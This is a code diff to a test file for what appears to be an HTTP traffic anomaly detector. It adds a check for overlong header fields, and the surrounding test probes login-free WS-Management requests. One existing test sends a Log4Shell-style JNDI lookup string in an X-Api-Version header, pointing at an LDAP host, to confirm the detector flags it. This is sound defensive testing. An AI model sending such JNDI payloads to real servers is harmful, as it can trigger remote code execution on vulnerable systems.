@@ -157,11 +157,15 @@ test('a part of a file says where it stands in the whole', () => {
   assert.deepEqual(file.slice(14, 19), [4, 100, 10, 0, true])
 })
 
-test('an expression in a header, and management that asks for no login, are anomalies', () => {
+test('an expression in a header, an overlong field and management without a login are anomalies', () => {
   const talk = new Talk()
   talk.says('client', `GET / HTTP/1.1\r\nX-Api-Version: \${jndi:ldap://203.0.113.9/a}\r\nAccept: $1, {2}\r\n\r\n`)
   talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
   assert.deepEqual(talk.recorder.anomalies, ['http.expression-in-header'])
+  const long = new Talk()
+  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(513)}\r\nCookie: ${'a'.repeat(2000)}\r\n\r\n`)
+  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(512)}\r\n\r\n`)
+  assert.deepEqual(long.recorder.anomalies, ['http.overlong-field'])
   const manage = (login: string, status: string) => {
     const other = new Talk()
     other.says('client', `POST /wsman HTTP/1.1\r\n${login}Content-Length: 0\r\n\r\n`)
